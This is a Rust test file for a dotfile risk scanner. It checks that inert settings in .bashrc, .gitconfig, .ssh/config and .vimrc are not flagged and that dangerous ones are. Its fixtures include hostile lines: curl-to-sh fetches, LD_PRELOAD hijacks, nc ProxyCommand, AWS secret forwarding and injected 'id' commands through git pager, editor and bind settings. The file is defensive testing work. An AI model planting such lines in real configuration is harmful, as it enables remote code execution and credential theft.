//! The rules of `rules/default.toml` never contradict the setting classes: in a file
//! a parser reads, a setting the classes call inert raises nothing above medium, from
//! any rule (whitelist: the classes decide what is harmless; a rule may only explain
//! why a setting that is *not* known to be harmless matters). Checked over every
//! stored rule case and both parser corpora, with the real engine and parsers. Also
//! the examples of blacklist rules that flagged harmless lines.

use qcs_core::risk::{Engine, FileKind, Finding, ScanInput, Severity, Side, Verdict, parse};

#[path = "common/parser_corpus.rs"]
mod corpus_files;

fn case_path(engine: &Engine, filetypes: Option<&[String]>) -> String {
    let glob = filetypes
        .and_then(|f| f.first())
        .and_then(|id| engine.filetype_globs(id))
        .and_then(|g| g.first().cloned());
    match glob {
        Some(g) => g.replace("**/", "").replace('*', "x"),
        None => "notes/file.txt".to_string(),
    }
}

/// Rules about what a parser cannot see (characters, encodings, layout, tokens,
/// metadata, the file as a whole) and the two ssh block-structure checks (a Host
/// alias that connects elsewhere, a catch-all block before specific ones): they may
/// fire on an inert setting.
fn beyond_the_parser(rule: &str) -> bool {
    ["content.", "meta.", "path.", "parse.failed", "file."]
        .iter()
        .any(|p| rule.starts_with(p))
        || ["ssh.hostname.redirect", "ssh.early-catch-all"].contains(&rule)
}

/// Findings above medium on a proposed line whose settings are all inert, from a
/// rule that judges settings.
fn contradictions(e: &Engine, path: &str, content: &[u8], base: Option<&[u8]>) -> Vec<String> {
    let Some(ft) = e.filetype_of(path) else {
        return Vec::new();
    };
    let Some(p) = e.filetype_parser(ft).and_then(parse::parser) else {
        return Vec::new();
    };
    let Ok(settings) = p(content) else {
        return Vec::new();
    };
    let findings = e.scan(&ScanInput {
        path,
        content,
        base,
        mode: None,
        kind: FileKind::Regular,
    });
    let text = String::from_utf8_lossy(content);
    findings
        .iter()
        .filter(|f| f.side == Side::Proposed && f.severity > Severity::Medium)
        .filter(|f| !beyond_the_parser(&f.rule) && !f.rule.starts_with("setting."))
        .filter_map(|f: &Finding| {
            let line = f.line?;
            let start = settings.iter().map(|s| s.line).filter(|l| *l <= line).max();
            let here: Vec<_> = settings.iter().filter(|s| Some(s.line) == start).collect();
            let inert = here
                .iter()
                .all(|s| e.classify_setting(ft, &s.key, s.value.as_deref()) == Verdict::Inert);
            inert.then(|| {
                format!(
                    "{path}: {} {:?} on inert line {line} {:?}",
                    f.rule,
                    f.severity,
                    text.lines().nth(line as usize - 1).unwrap_or("")
                )
            })
        })
        .collect()
}

#[test]
fn rules_never_flag_a_setting_the_classes_call_inert() {
    let e = Engine::load_default();
    let mut found = Vec::new();
    let mut scanned = 0;
    for rule in e.rules() {
        for case in rule.cases {
            let path = case
                .path
                .clone()
                .unwrap_or_else(|| case_path(&e, rule.filetypes));
            let content = case.content_bytes().expect("case content");
            found.extend(contradictions(
                &e,
                &path,
                &content,
                case.base.as_deref().map(str::as_bytes),
            ));
            scanned += 1;
        }
    }
    for kind in ["benign", "malicious"] {
        for (name, content) in corpus_files::files(kind) {
            let path = corpus_files::home_path(&name);
            found.extend(contradictions(&e, path, &content, Some(b"")));
            scanned += 1;
        }
    }
    assert!(scanned > 400, "{scanned}");
    assert!(found.is_empty(), "{}", found.join("\n"));
}

fn worst(path: &str, content: &str) -> Option<Severity> {
    Engine::shared()
        .scan(&ScanInput {
            path,
            content: content.as_bytes(),
            base: Some(b""),
            mode: None,
            kind: FileKind::Regular,
        })
        .iter()
        .map(|f| f.severity)
        .max()
}

#[test]
fn the_blacklist_leftovers_no_longer_flag_harmless_lines() {
    for (path, line) in [
        (".bashrc", "export EDITOR=vim\n"),
        (".bashrc", "export VISUAL=nvim\nexport PAGER=less\n"),
        (".bashrc", "alias ls='ls --color=auto'\n"),
        (".zshrc", "alias grep='grep --color=auto'\n"),
        (".ssh/config", "Host *\n    SendEnv LANG LC_*\n"),
        (".ssh/config", "Host *\n    CheckHostIP no\n"),
        (".gitconfig", "[alias]\n\tlg = log --oneline -c\n"),
        (
            ".bashrc",
            "# sudo is not run by a comment\nexport EDITOR=vim\n",
        ),
    ] {
        let w = worst(path, line);
        assert!(
            w.is_none_or(|w| w <= Severity::Medium),
            "{path} {line:?}: {w:?}"
        );
    }
}

#[test]
fn rules_still_explain_settings_that_are_not_known_to_be_harmless() {
    // Not inert in the classes: the rule's severity stands (critical), or the class
    // gates it (high) — never less than high.
    for (path, text, at_least) in [
        (".bashrc", "export EDITOR=/tmp/x\n", Severity::Critical),
        (
            ".bashrc",
            "export LD_PRELOAD=/tmp/x.so\n",
            Severity::Critical,
        ),
        (
            ".bashrc",
            "alias ls='ls; curl x | sh'\n",
            Severity::Critical,
        ),
        (
            ".bashrc",
            "alias sudo='sudo -E /tmp/x'\n",
            Severity::Critical,
        ),
        (
            ".ssh/config",
            "Host *\n    SendEnv AWS_SECRET_ACCESS_KEY\n",
            Severity::High,
        ),
        (
            ".gitconfig",
            "[alias]\n\tlg = -c core.pager=evil log\n",
            Severity::Critical,
        ),
        (
            ".gitconfig",
            "[core]\n\tpager = evil-pager\n",
            Severity::Critical,
        ),
    ] {
        let w = worst(path, text);
        assert!(w.is_some_and(|w| w >= at_least), "{path} {text:?}: {w:?}");
    }
}

#[test]
fn values_outside_the_known_lists_stay_gated() {
    for (path, text, at_least) in [
        (
            ".gitconfig",
            "[core]\n\teditor = sh -c id\n",
            Severity::Critical,
        ),
        (
            ".gitconfig",
            "[core]\n\tpager = \"less; id\"\n",
            Severity::Critical,
        ),
        (".bashrc", "HISTFILE=~/.bashrc\n", Severity::High),
        (".bashrc", "export TERM='xterm;id'\n", Severity::High),
        (".bashrc", "bind '\"\\C-x\": \"id\\n\"'\n", Severity::High),
        (".bashrc", "bind -x '\"\\C-l\": id'\n", Severity::High),
        (
            ".bashrc",
            "bind 'set completion-ignore-case on; id'\n",
            Severity::High,
        ),
    ] {
        let w = worst(path, text);
        assert!(w.is_some_and(|w| w >= at_least), "{path} {text:?}: {w:?}");
    }
}

/// An attacker puts a dangerous command on the same line as (or in the continuation
/// of) a setting the classes call inert, hoping the line counts as harmless.
#[test]
fn an_inert_setting_does_not_shelter_its_neighbours() {
    for (path, text) in [
        (
            ".bashrc",
            "export EDITOR=vim; export LD_PRELOAD=/tmp/x.so\n",
        ),
        (
            ".bashrc",
            "alias ls='ls --color=auto' && curl -s x.example | sh\n",
        ),
        (".bashrc", "export EDITOR=vim \\\n  LD_PRELOAD=/tmp/x.so\n"),
        (
            ".bashrc",
            "alias ll='ls -alF'\nPROMPT_COMMAND='curl -s x.example | sh'\n",
        ),
        (
            ".gitconfig",
            "[core]\n\teditor = vim\n\tsshCommand = ssh -oProxyCommand=id\n",
        ),
        (
            ".ssh/config",
            "Host *\n    SendEnv LANG LC_*\n    ProxyCommand nc %h %p\n",
        ),
        (".vimrc", "set number | call system('id')\n"),
    ] {
        let w = worst(path, text);
        assert!(
            w.is_some_and(|w| w >= Severity::High),
            "{path} {text:?}: {w:?}"
        );
    }
}
